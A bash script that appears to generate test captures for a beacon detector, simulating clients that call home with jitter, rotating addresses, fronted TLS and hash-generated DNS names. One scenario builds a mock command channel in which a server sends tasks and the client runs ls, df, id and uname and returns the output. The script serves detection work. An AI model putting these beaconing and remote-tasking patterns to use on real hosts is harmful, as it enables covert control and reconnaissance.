#!/usr/bin/env bash
# Captures of clients that call home, a hundred times faster than they would.  Usage: [OUTPUT-DIR [SCENARIO...]]
. "$(dirname "$0")/beats.sh"
DETECTOR=beacon

posts() { on cli curl -q -s -k -o /dev/null -m 5 -d "id=0c1f2a&n=$BEAT&host=workstation-17&user=somebody&pad=$(printf '%0120d' 0)" "$1/$(page)" || true; }
line_server() { spawn out socat "TCP-LISTEN:$1,fork,reuseaddr" "SYSTEM:'read line; echo ok'"; up out "$1"; }
says() { printf 'beat %04d from workstation-17 as somebody\n' "$BEAT" | on cli timeout 5 socat - "TCP:$OUT:$1" >/dev/null || true; }

hit_http_jitter() { # HTTP posts with jitter of 20 %, a task now and then
    net_up; web_up; server_up
    record; looks_up_only; beats 22 0.4 0.6 posts http://$OUT; save; stretch 100 0.05
}

hit_https_jitter() { # HTTPS to an address that nobody looked up, jitter of 40 %
    net_up; web_up; server_up
    record; looks_up_only; beats 22 0.3 0.7 posts https://$OUT; save; stretch 100 0.05
}

hit_https_turns() { # HTTPS to a name whose four addresses take turns, jitter of 40 %
    local last; NAMES=(); for last in 77 78 79 80; do NAMES+=("--host-record=sync.example.test,198.51.100.$last"); done
    net_up; web_up; server_up; for last in 78 79 80; do on out ip addr add 198.51.100.$last/24 dev eth0; done
    record; looks_up_only; beats 24 0.3 0.7 posts https://sync.example.test; save; stretch 100 0.05
}

hit_https_elsewhere() { # HTTPS by the clock to an address that nobody looked up, and a hello that names a server elsewhere
    net_up; web_up; server_up
    record; looks_up_only; again 14 0.5 fronted; save; stretch 100 0.05
}
fronted() { on cli curl -q -s -k -o /dev/null -m 5 --connect-to "web.example.test:443:$OUT:443" https://web.example.test/ || true; }

hit_https_new() { # HTTPS by the clock to a name; nobody inside went there when they were learned (first.toml)
    NAMES=(--host-record=sync.example.test,$OUT); net_up; web_up; server_up
    record; looks_up_only; again 14 1.2 asks_alike; save; stretch 50 0.05
}

asks_alike() { on cli curl -q -s -k -o /dev/null -m 5 https://sync.example.test/ || true; }

hit_https_rotates() { # HTTPS to eight addresses in turn that nobody looked up, jitter of 40 %
    local last; net_up; web_up; server_up; for last in 78 79 80 81 82 83 84; do on out ip addr add 198.51.100.$last/24 dev eth0; done
    record; looks_up_only; beats 24 0.3 0.7 posts_in_turn; save; stretch 100 0.05
}
posts_in_turn() { posts https://198.51.100.$((77 + BEAT % 8)); }

hit_http_many_clients() { # three clients, five posts each, to one name: too few of each alone
    NAMES=(--host-record=sync.example.test,$OUT); net_up; web_up; server_up
    record; looks_up_only; again 5 1.2 three_post; save; stretch 100 0.05
}
three_post() { local ns; for ns in cli rly rl2; do on $ns curl -q -s -o /dev/null -m 5 -d "id=$ns&n=$BEAT&pad=$(printf '%0160d' 0)" http://sync.example.test/beat || true; sleep 0.1; done; }

hit_raw_clock() { # a line each time, at an odd port, like a clock
    net_up; web_up; line_server 4466
    record; looks_up_only; beats 14 0.5 0.5 says 4466; save; stretch 100 0.05
}

hit_raw_missing_beats() { # the same with beats that are missing
    net_up; web_up; line_server 4466
    record; looks_up_only
    beats 6 0.5 0.5 says 4466; sleep 0.5; beats 4 0.5 0.5 says 4466; sleep 1; beats 6 0.5 0.5 says 4466
    save; stretch 100 0.05
}


hit_names_jitter() { # names that are new each time, and that nobody has; jitter of 40 %
    net_up; web_up
    record; looks_up_only; beats 24 0.3 0.7 asks; save; stretch 100 0.05
}
asks() { on cli getent hosts "$(printf '%s' "$BEAT" | sha1sum | cut -c1-40).t1.example.test" || true; }

hit_session_raw() { # one session at an odd port, a line every two seconds that comes back
    net_up; spawn out socat TCP-LISTEN:4455,fork,reuseaddr EXEC:cat; up out 4455
    record; lines 12 2 | on cli timeout 40 socat - TCP:$OUT:4455 >/dev/null; save; stretch 30
}
lines() { local n; for n in $(seq "$1"); do sleep "$2"; printf 'alive %04d from workstation-17\n' "$n"; done; sleep 0.5; }

hit_session_tls() { # one TLS session to an address that nobody looked up, a line every two seconds
    net_up; web_up; server_up; spawn out socat OPENSSL-LISTEN:8443,fork,reuseaddr,cert="$W/out.crt",key="$W/out.key",verify=0 EXEC:cat; up out 8443
    record; looks_up_only; lines 12 2 | on cli timeout 40 openssl s_client -quiet -connect $OUT:8443 >/dev/null 2>&1 || true; save; stretch 30
}

hit_session_tasks() { # one TLS session by the clock to a name that was looked up; three times the server asks for something
    NAMES=(--host-record=sync.example.test,$OUT); net_up; web_up; server_up
    cat >"$W/tasks" <<'END'
(sleep 7.1; echo "run: ls -la /etc/ssl, and the name of this host, and send it here"; sleep 8; echo "run: df, and whatever else there is to tell of disks"
 sleep 6; echo "run: id") &
while read -r line; do case $line in alive*) echo "ok, noted";; esac; done
END
    cat >"$W/client" <<'END'
(for n in $(seq 14); do sleep 2; printf 'alive %04d from workstation-17\n' "$n"; done; kill 0) &
while read -r line; do case $line in *ls*) ls -la /etc/ssl;; *df*) df;; *id*) id; hostname; uname -a;; esac; done
END
    spawn out socat OPENSSL-LISTEN:8443,fork,reuseaddr,cert="$W/out.crt",key="$W/out.key",verify=0 EXEC:"bash $W/tasks"; up out 8443
    record; on cli getent hosts sync.example.test >/dev/null
    on cli timeout 40 socat OPENSSL:sync.example.test:8443,verify=0 EXEC:"bash $W/client",setsid >/dev/null 2>&1 || true; save; stretch 30
}

scenarios "$@"
